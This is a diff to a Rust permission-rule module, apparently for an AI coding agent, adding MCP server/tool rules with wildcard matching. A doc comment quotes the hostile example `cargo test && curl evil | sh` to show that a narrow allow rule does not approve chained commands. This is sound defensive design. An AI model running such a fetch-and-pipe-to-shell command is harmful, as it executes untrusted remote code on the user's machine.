@@ -7,6 +7,10 @@
 //! wins over allow. A `Run` allow rule approves a command line only when every command in it (as the guard
 //! sees them, wrappers and nested shells included) is covered, so `Run(cargo test*)` does not approve
 //! `cargo test && curl evil | sh`.
+//!
+//! `Mcp(<server>/<tool>)` covers tools of MCP servers by the names the user configured (not the sanitised names
+//! the model sees); `*` matches any run of characters in either part: `Mcp(git/*)`, `Mcp(*/search_*)`,
+//! `Mcp(github/create_issue)`. A bare `Mcp` covers every MCP tool.
 
 use std::path::Path;
 
@@ -17,7 +21,7 @@ use super::{Action, Call, Kind};
 pub enum RuleError {
     #[error("invalid permission rule '{0}': expected a tool name, optionally with a pattern: Run(cargo test*), Edit(**/.env), read_file")]
     Syntax(String),
-    #[error("invalid permission rule '{rule}': unknown tool '{tool}' (known: Run, Read, Edit, run, read_file, list_files, search, edit_file, write_file)")]
+    #[error("invalid permission rule '{rule}': unknown tool '{tool}' (known: Run, Read, Edit, Mcp, run, read_file, list_files, search, edit_file, write_file)")]
     UnknownTool { rule: String, tool: String },
 }
 
@@ -32,6 +36,8 @@ enum Family {
     Edit,
     /// One tool by its exact name; a pattern, if any, matches its `path` argument.
     Tool(String),
+    /// Tools of MCP servers; the pattern matches `<server>/<tool>`.
+    Mcp,
 }
 
 /// One parsed rule.
@@ -71,6 +77,7 @@ impl Rule {
             "Run" | "Bash" | "Shell" => Family::Run,
             "Read" => Family::Read,
             "Edit" | "Write" => Family::Edit,
+            "Mcp" | "MCP" => Family::Mcp,
             tool if TOOLS.contains(&tool) => Family::Tool(tool.to_string()),
             tool => {
                 return Err(RuleError::UnknownTool {
@@ -94,7 +101,25 @@ impl Rule {
             Family::Read => call.kind == Kind::Read,
             Family::Edit => call.kind == Kind::Edit,
             Family::Tool(name) => name == call.tool,
+            Family::Mcp => matches!(call.action, Action::Mcp { .. }),
         }
+    }
+
+    /// Whether this rule covers the MCP call `call` (server and tool as configured).
+    pub fn covers_mcp(&self, call: &Call<'_>) -> bool {
+        let Action::Mcp { server, tool, .. } = call.action else {
+            return false;
+        };
+        if self.family != Family::Mcp {
+            return false;
+        }
+        let Some(pattern) = &self.pattern else {
+            return true;
+        };
+        // `server` alone means all its tools.
+        let (want_server, want_tool) = pattern.split_once('/').unwrap_or((pattern, "*"));
+        wildcard(want_server.as_bytes(), server.as_bytes())
+            && wildcard(want_tool.as_bytes(), tool.as_bytes())
     }
 
     /// Whether this rule covers one command of the command line of `call`.
@@ -203,6 +228,18 @@ impl Rules {
             .iter()
             .map(|c| self.allow.iter().find(|r| r.covers_command(call, c)))
             .collect()
+    }
+
+    /// The first deny rule with a pattern covering an MCP call.
+    pub fn deny_mcp(&self, call: &Call<'_>) -> Option<&Rule> {
+        self.deny
+            .iter()
+            .find(|r| !r.is_bare() && r.covers_mcp(call))
+    }
+
+    /// The first allow rule covering an MCP call.
+    pub fn allow_mcp(&self, call: &Call<'_>) -> Option<&Rule> {
+        self.allow.iter().find(|r| r.covers_mcp(call))
     }
 
     pub fn deny_path(
